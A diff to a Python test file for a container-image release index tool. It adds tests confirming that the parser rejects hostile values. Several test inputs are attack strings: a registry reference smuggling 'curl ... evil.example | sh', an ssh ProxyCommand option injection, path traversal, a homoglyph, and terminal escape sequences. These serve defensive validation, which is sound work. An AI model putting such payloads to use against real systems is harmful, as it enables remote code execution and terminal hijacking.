@@ -15,6 +15,7 @@ from imagesmith.index import SCHEMA, dump_index, load_index, parse_index, save_i
 
 D1 = "sha256:" + "a" * 64
 D2 = "sha256:" + "b" * 64
+D3 = "sha256:" + "c" * 64
 
 
 def image(**over: Any) -> dict[str, Any]:
@@ -56,6 +57,9 @@ def image(**over: Any) -> dict[str, Any]:
         "released": "2026-11-28T03:00:00Z",
     }
     doc.update(over)
+    if "digest" in over and "registries" not in over:  # another image: its copies carry its digest
+        for copy_ in doc["registries"]:
+            copy_["digest"] = over["digest"]
     return doc
 
 
@@ -141,6 +145,92 @@ def test_bad_index_names_source_and_field(mutate: Any, expect: str) -> None:
     assert "fix:" in msg
 
 
+@pytest.mark.parametrize(
+    "reference",
+    [
+        "ghcr.io/acme/x;curl${IFS}evil.example|sh:t",  # pasted from pick's `docker pull`, a shell runs it
+        "ghcr.io/acme/../x:t",
+        "ghcr.io//x:t",
+        "ghcr.io/acme/x y:t",
+        "ghcr.io/\u0430cme/x:t",  # a Cyrillic a
+        "ghcr.io/acme/X:t",
+        "ghcr.io/acme/x:-t",
+        "-oProxyCommand=x/y:t",  # an option to the program it is passed to
+        "ghcr.io:99999/x:t",
+        f"ghcr.io/acme/x:t@sha256:{'0' * 64}",  # a second digest, silently dropped
+    ],
+)
+def test_a_copy_reference_that_is_no_registry_reference_is_refused(reference: str) -> None:
+    """main took any text with a '/' and a ':' as a copy's reference: pick printed `docker pull <it>@sha256:…`
+    (and `--pull` passed it to docker) for a reference the registries.toml grammar never produces."""
+    msg = _bad(lambda d: d["images"][0]["registries"][0].update(reference=reference))
+    assert msg.startswith(
+        f"release index /srv/index.json: images[0].registries[0].reference: {reference!r} is not a "
+        "reference host[:port]/repository:tag"
+    )
+
+
+@pytest.mark.parametrize(
+    ("where", "value", "char"),
+    [
+        ("images[0].validated_on[0].gpu", "NVIDIA H100\x1b[2J", "U+001B"),  # clears the renter's screen
+        ("images[0].matrix", "h100\x1b]0;title\x07", "U+001B"),
+        ("images[0].registries[0].name", "ghcr\u202e", "U+202E"),  # prints the rest of the line reversed
+        ("images[0].fingerprint", "ab\u200bcd", "U+200B"),
+        ("images[0].registries[0].kind", "ghcr\n", "U+000A"),
+    ],
+)
+def test_an_index_string_with_a_control_character_is_refused(where: str, value: str, char: str) -> None:
+    """main printed an index's strings (GPU names, matrix, registry names) as they came: a terminal escape in
+    one ran on the renter's terminal when pick or index listed it."""
+
+    def put(doc: dict[str, Any]) -> None:
+        *path, last = where.replace("]", "").replace("[", ".").split(".")
+        node: Any = doc
+        for part in path:
+            node = node[int(part)] if part.isdigit() else node[part]
+        node[last] = value
+
+    msg = _bad(put)
+    assert msg.startswith(
+        f"release index /srv/index.json: {where}: {value[:80]!r} holds the control character {char}"
+    )
+    assert "regenerate it with imagesmith release" in msg
+
+
+@pytest.mark.parametrize(
+    ("field", "value", "said"),
+    [
+        ("torch", "2.99.0", "torch 2.99.0, not 2.5.1"),
+        ("min_driver", {"full": "450.80.02", "minor": "450.80.02"}, "min_driver 450.80.02 (minor 450.80.02)"),
+        ("arch", ["5.0"], "arch 5.0, not 5.0,8.0,8.6,9.0"),
+        ("shm", {"ipc_host": True}, "shm size default, ipc_host true, not size 16g, ipc_host false"),
+    ],
+)
+def test_two_entries_of_one_digest_that_disagree_on_its_content_are_refused(
+    field: str, value: Any, said: str
+) -> None:
+    """main read two tags of one digest whose fields disagree (torch 2.5.1 here, 2.99.0 there): one image
+    has one config, and pick chose those same bytes by the wilder entry's claims."""
+    msg = _bad(lambda d: d["images"].append(image(tag="zz", **{field: value})))
+    assert msg.startswith(
+        f"release index /srv/index.json: images[1].{field}: zz is the image {D1} as 2.5.1-cu124-py3.11 "
+        f"(images[0]) is, but says {said}"
+    )
+    assert "regenerate the index with imagesmith release" in msg
+    # two tags of one digest that agree are read (a tag whose entry differs only in what release decides)
+    doc = index_doc(image(), image(tag="zz", released="2026-11-29"))
+    assert [i.tag for i in parse_index(json.dumps(doc), source="i").images] == ["2.5.1-cu124-py3.11", "zz"]
+
+
+@pytest.mark.parametrize("expires", ["2099-02-30T00:00:00Z", "2099-12-31T24:00:00Z", "2099-13-01T00:00:00Z"])
+def test_an_expiry_that_is_no_date_is_refused_as_such_not_called_expired(expires: str) -> None:
+    """main read an expiry that fits the pattern but is no time (30 February) and pick then said "the index
+    expired on 2099-02-30T00:00:00Z", sending the renter to the publisher's nightly."""
+    msg = _bad(lambda d: d.update(serial=3, expires=expires))
+    assert msg.startswith(f"release index /srv/index.json: expires: {expires!r} is no date")
+
+
 def test_not_json() -> None:
     with pytest.raises(ConfigError, match=r"idx.json: not valid JSON"):
         parse_index("{nope", source="idx.json")
@@ -153,7 +243,9 @@ def test_load_missing_file(tmp_path: Path) -> None:
 
 def test_save_then_load_and_merge(tmp_path: Path) -> None:
     idx = parse_index(json.dumps(index_doc(image(tag="old"), image(tag="keep"))), source="i")
-    new = parse_index(json.dumps(index_doc(image(tag="old", torch="2.5.0"), image(tag="new"))), source="n")
+    new = parse_index(
+        json.dumps(index_doc(image(tag="old", torch="2.5.0", digest=D3), image(tag="new"))), source="n"
+    )
     merged = idx.merged(new.images, generated="2026-11-29T00:00:00Z")
     path = tmp_path / "sub" / "index.json"
     save_index(merged, path)
@@ -167,7 +259,7 @@ def test_save_then_load_and_merge(tmp_path: Path) -> None:
 
 def test_cli_index_lists_and_checks(run_cli: Any, tmp_path: Path) -> None:
     path = tmp_path / "index.json"
-    path.write_text(json.dumps(index_doc(image(tag="t1"), image(tag="t2", torch="2.5.0"))))
+    path.write_text(json.dumps(index_doc(image(tag="t1"), image(tag="t2", torch="2.5.0", digest=D3))))
     res = run_cli("index", str(path), "--no-verify")  # an unsigned index (issue 25: only with --no-verify)
     assert res.exit_code == 0, res.stderr
     assert res.stderr.startswith("warning: --no-verify: the release index")
